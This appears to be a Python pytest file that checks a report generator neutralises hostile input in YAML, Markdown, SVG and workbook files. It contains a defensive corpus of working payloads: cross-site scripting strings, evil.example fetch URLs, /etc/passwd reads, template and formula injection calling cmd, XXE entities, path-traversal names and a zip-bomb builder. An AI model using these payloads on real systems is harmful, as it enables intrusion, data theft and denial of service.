"""What reports may contain is hostile. Each attack is refused with a message, or shown as harmless text.

The corpus: every payload in every field that takes text, and files made to hurt a reader of YAML, Markdown, pictures or workbooks.
"""

from __future__ import annotations

import json
import re
import time
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest

from reportgen.dossier import open_dossier
from reportgen.outputs import Making, Timings
from reportgen.problems import Refused
from reportgen.project import Project

PAYLOADS = {
    "script element": "<script>alert(1)</script>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "svg with handler": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "closing tags": "</p></main></body></html><script>alert(1)</script>",
    "comment and cdata": "<!-- --><![CDATA[ ]]><script>alert(1)</script>-->",
    "style element": "<style>body{background:url(http://evil.example/x)}</style>",
    "iframe": "<iframe src=file:///etc/passwd></iframe>",
    "link element": '<link rel="stylesheet" href="http://evil.example/x.css">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base element": '<base href="http://evil.example/">',
    "form": "<form action=http://evil.example><input name=a></form>",
    "object": '<object data="http://evil.example/x"></object>',
    "half open tag": "<script",
    "attribute break": "\" onmouseover=\"alert(1)\" x=\"",
    "single quote break": "' onmouseover='alert(1)' x='",
    "javascript link": "[click](javascript:alert(1))",
    "javascript link with entity": "[click](&#106;avascript:alert(1))",
    "javascript link with tab": "[click](java\tscript:alert(1))",
    "javascript link with case": "[click](JaVaScRiPt:alert(1))",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "data link": "[click](data:text/html,<script>alert(1)</script>)",
    "file link": "[click](file:///etc/passwd)",
    "protocol-relative link": "[click](//evil.example/x)",
    "autolink": "<javascript:alert(1)>",
    "reference link": "[click][x]\n\n[x]: javascript:alert(1)",
    "http image": "![x](http://evil.example/x.png)",
    "file image": "![x](file:///etc/passwd)",
    "image outside": "![x](../../../../etc/passwd)",
    "absolute image": "![x](/etc/passwd)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "jinja expression": "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}",
    "jinja statement": "{% for x in range(9**9) %}x{% endfor %}",
    "jinja comment": "{# hidden #}",
    "format string": "{0.__class__}{report.__class__}%s%(x)s",
    "formula": "=HYPERLINK(\"http://evil.example\",\"click\")",
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula behind tab": "\t=1+1",
    "css in text": "</style><style>@import url(http://evil.example/x.css);</style>",
    "bidi override": "Rated \u202edooG\u202c by us",
    "bidi isolate": "\u2066hidden\u2069 \u2067text\u2069",
    "zero width": "In\u200bade\u200cqu\u200date\ufeff",
    "tag characters": "plain\U000e0041\U000e0042",
    "null in figure": "{figure:\\0}{pct:../../etc}{ref:<script>}",
    "template path": "{table:../../../etc/passwd}",
    "latin script look-alike": "Gооd",
    "many braces": "{" * 2000 + "}" * 2000,
    "many brackets": "[" * 3000 + "]" * 3000,
    "many stars": "*a **b " * 1500,
    "many backticks": "`" * 3001 + "a" + "`" * 3000,
    "many quotes": "> " * 1500 + "x",
    "many lists": "\n".join("  " * n + "- x" for n in range(150)),
    "many links": "[a](" * 1500,
    "many entities": "&#x3C;script&#x3E;" * 500,
    "many footnotes": "[^a]" * 1500 + "\n\n[^a]: x[^a]",
    "many underscores": "_" * 5000,
    "long word": "x" * 20000,
    "many angle brackets": "<" * 5000,
    "many exclamation images": "![" * 2000,
    "table of bars": "|" * 3000 + "\n" + "|-" * 1500 + "\n" + "|" * 3000,
    "containers": "::: quote x\n" * 400,
    "mailto header": "[mail](mailto:a@b.example?bcc=evil@evil.example)",
}

FIELDS = {
    "title": "title: {}",
    "subtitle": "title: T\nsubtitle: {}",
    "region": "title: T\nregion: {}",
    "notice": "title: T\nnotice: {}",
    "lead_inspector": "title: T\nlead_inspector: {}",
    "publication": "title: T\npublication: {{publisher: {}, copyright: {}, licence: {}}}",
    "foreword": "title: T\ntext: {{foreword: {}}}",
    "strength": "title: T\nfindings: {{1: {{strengths: [{}], areas_for_improvement: [{}]}}}}",
    "because": "title: T\nfindings: {{1.1: {{rating: Good, because: {}}}}}",
    "not_rated": "title: T\nfindings: {{1.1: {{not_rated: {}}}}}",
    "finding": "title: T\nfindings: {{1.1: {{rating: Good, text: {}}}}}",
    "recommendation": "title: T\nrecommendations: [{{to: {}, items: [{}]}}]",
    "table": "title: T\ntables: {{staffing: {{title: {}, source: {}, columns: [{}, Value], rows: [[{}, {}]], notes: [{}], in: 1}}}}",
    "figure": "title: T\nfigures: {{x: {{value: {}, source: {}}}}}\ntext: {{foreword: 'See {{figure:x}}.'}}",
    "section": "title: T\nsections: [{{title: {}, in: annexes, text: {}}}]",
    "progress": "title: T\nprogress: [{{from: {}, recommendation: {}, findings: {}, category: {}}}]",
}

ALLOWED_TAGS = set("""html head meta title link style script body a header footer main nav section article aside div p span h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table
    caption thead tbody tfoot tr th td colgroup col figure figcaption img svg g rect path line circle text tspan title desc strong em b i small sup sub br hr code pre blockquote
    cite abbr time address details summary mark q del s wbr use polygon polyline""".split())


class Page(HTMLParser):
    """What a browser would act on: tags, attributes, addresses."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.scripts = 0
        self.text: list[str] = []
        self.quiet = False
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.quiet = tag in ("script", "style")
        if tag not in ALLOWED_TAGS:
            self.faults.append(f"<{tag}>")
        self.scripts += tag == "script"
        for name, value in attributes:
            if name.startswith("on") or (name in ("srcdoc", "action", "formaction", "http-equiv") and "Content-Security-Policy" not in (value or "")):
                self.faults.append(f"{tag} {name}={value}")
            if name in ("href", "src", "xlink:href", "data"):
                self.address(tag, name, (value or "").strip())

    def address(self, tag: str, name: str, value: str) -> None:
        fine = {"a": r"(https?:|mailto:|#)|[\w.-]+\.(pdf|ods|xlsx|json)$", "img": r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,", "link": r"data:,$", "use": "#"}
        if not re.match(fine.get(tag, "$^"), value, re.IGNORECASE):
            self.faults.append(f"{tag} {name}={value[:80]}")

    def handle_endtag(self, tag: str) -> None:
        self.quiet = False

    def handle_data(self, data: str) -> None:
        if not self.quiet:
            self.text.append(data)


def written(tmp_path: Path, field: str, payload: str) -> Project:
    (tmp_path / "inspections").mkdir(exist_ok=True)
    quoted = json.dumps(payload)  # a JSON string is a YAML string
    text = "methodology: hmip-pdu-2021\n" + FIELDS[field].replace("{}", "\0").replace("{{", "{").replace("}}", "}").replace("\0", quoted)
    (tmp_path / "inspections" / "attack.yaml").write_text(text, encoding="utf-8")
    return Project(tmp_path)


def outcome(project: Project, kind: str) -> dict[str, bytes]:
    """The files, or nothing where the inspection was refused with messages."""
    try:
        return Making(project, "attack", Timings()).files(kind)
    except Refused as refused:
        assert refused.problems
        assert all(problem.message and problem.code != "bug" for problem in refused.problems)
        return {}


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_payload_in_any_field_stays_text_in_the_page(tmp_path: Path, name: str) -> None:
    clean = Page(next(iter(outcome(written(tmp_path, "title", "T"), "html").values())).decode())
    for field in FIELDS:
        for made in outcome(written(tmp_path, field, PAYLOADS[name]), "html").values():
            page = Page(made.decode())
            assert page.faults == [], field
            assert page.scripts == clean.scripts, field
            words = "".join(page.text)
            assert "49" not in words or "7*7" not in PAYLOADS[name] or "7*7" in words, field


@pytest.mark.parametrize("name", [name for name in PAYLOADS if "formula" in name])
@pytest.mark.parametrize("field", ["title", "recommendation", "table", "progress"])
def test_no_cell_starts_a_formula(tmp_path: Path, name: str, field: str) -> None:
    for file, data in outcome(written(tmp_path, field, PAYLOADS[name]), "data").items():
        if file.endswith(".json"):
            continue
        path = tmp_path / file
        path.write_bytes(data)
        with zipfile.ZipFile(path) as book:
            for member in book.namelist():
                content = book.read(member).decode("utf-8", "replace")
                assert "<f>" not in content
                assert "table:formula" not in content


@pytest.mark.parametrize("name", ["script element", "svg with handler", "style element", "http image", "file image", "image outside", "data image", "css in text",
                                  "bidi override", "jinja expression", "iframe"])
def test_a_payload_in_a_pdf_fetches_nothing_and_stays_text(tmp_path: Path, name: str) -> None:
    for field in ("foreword", "table"):
        for data in outcome(written(tmp_path, field, PAYLOADS[name]), "pdf").values():
            assert data.startswith(b"%PDF-")
            assert b"/JavaScript" not in data
            assert b"/Launch" not in data


@pytest.mark.parametrize("name", [name for name in PAYLOADS if name.startswith(("many", "long", "table of", "containers"))])
def test_input_made_to_be_slow_is_not(tmp_path: Path, name: str) -> None:
    """Twice the input takes about twice the time: far from the square or worse that such input is made for."""
    def seconds(payload: str) -> float:
        project = written(tmp_path, "foreword", payload)
        began = time.process_time()
        outcome(project, "html")
        return time.process_time() - began

    seconds("warm")
    once, eight = seconds(PAYLOADS[name]), seconds(PAYLOADS[name] * 8)
    assert eight < once * 8 * 4 + 0.5


@pytest.mark.parametrize("slug", ["../inspections/attack", "..", "/etc/passwd", "attack/../attack", "", ".", "a\0b", "attack.yaml/..", "~root", "C:\\x"])
def test_a_slug_is_the_name_of_a_file_in_inspections_or_refused(tmp_path: Path, slug: str) -> None:
    project = written(tmp_path, "title", "T")
    (tmp_path / "secret.yaml").write_text("methodology: hmip-pdu-2021\ntitle: Secret\n", encoding="utf-8")
    try:
        dossier = open_dossier(project, slug)
    except Refused:
        return
    assert dossier.file == tmp_path / "inspections" / "attack.yaml"


def test_a_link_that_leads_out_of_the_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "inspections").mkdir()
    (tmp_path / "secret.md").write_text("secret", encoding="utf-8")
    (tmp_path / "inspections" / "link.md").symlink_to(tmp_path / "secret.md")
    (tmp_path / "inspections" / "attack.yaml").write_text("methodology: hmip-pdu-2021\ntitle: T\ntext: {foreword: {file: link.md}}\n", encoding="utf-8")
    codes = [problem.code for problem in open_dossier(Project(tmp_path), "attack").problems]
    assert "file-outside" in codes


def bomb(path: Path, member: str, size: int) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr("xl/workbook.xml", "<workbook/>")
        with file.open(member, "w", force_zip64=True) as inner:
            for _ in range(size // 1_000_000):
                inner.write(b"0" * 1_000_000)


@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml.rels"])
def test_a_zip_bomb_as_a_case_file_is_refused(tmp_path: Path, member: str) -> None:
    (tmp_path / "inspections").mkdir()
    bomb(tmp_path / "inspections" / "cases.xlsx", member, 600_000_000)
    (tmp_path / "inspections" / "attack.yaml").write_text("methodology: hmip-pdu-2021\ntitle: T\ncases: cases.xlsx\n", encoding="utf-8")
    began = time.monotonic()
    assert any(problem.is_error for problem in open_dossier(Project(tmp_path), "attack").problems)
    assert time.monotonic() - began < 30


@pytest.mark.parametrize("svg", [
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://evil.example/x.png"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="http://evil.example"/></foreignObject></svg>',
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(http://evil.example/x.css);</style></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
])
def test_an_svg_that_does_more_than_draw_is_refused_or_disarmed(tmp_path: Path, svg: str) -> None:
    (tmp_path / "inspections").mkdir()
    (tmp_path / "inspections" / "map.svg").write_text(svg, encoding="utf-8")
    (tmp_path / "inspections" / "attack.yaml").write_text("methodology: hmip-pdu-2021\ntitle: T\ntext: {foreword: '![A map](map.svg)'}\n", encoding="utf-8")
    for kind in ("html", "pdf"):
        for data in outcome(Project(tmp_path), kind).values():
            if kind == "html":
                page = Page(data.decode())
                assert page.faults == []  # inside an img no script runs and nothing is fetched
            assert b"root:" not in data


def test_a_picture_that_is_no_picture_is_refused(tmp_path: Path) -> None:
    (tmp_path / "inspections").mkdir()
    (tmp_path / "inspections" / "map.png").write_bytes(b"MZ not a picture")
    (tmp_path / "inspections" / "attack.yaml").write_text("methodology: hmip-pdu-2021\ntitle: T\ntext: {foreword: '![A map](map.png)'}\n", encoding="utf-8")
    assert outcome(Project(tmp_path), "html") == {}


def test_a_gigantic_table_ends(tmp_path: Path) -> None:
    (tmp_path / "inspections").mkdir()
    rows = "\n".join(f"      - [Row {n}, {n}]" for n in range(20_000))
    (tmp_path / "inspections" / "attack.yaml").write_text(
        f"methodology: hmip-pdu-2021\ntitle: T\ntables:\n  staffing:\n    title: S\n    columns: [A, B]\n    rows:\n{rows}\n", encoding="utf-8")
    assert outcome(Project(tmp_path), "html")


def test_the_size_of_the_corpus() -> None:
    assert len(PAYLOADS) * len(FIELDS) > 900
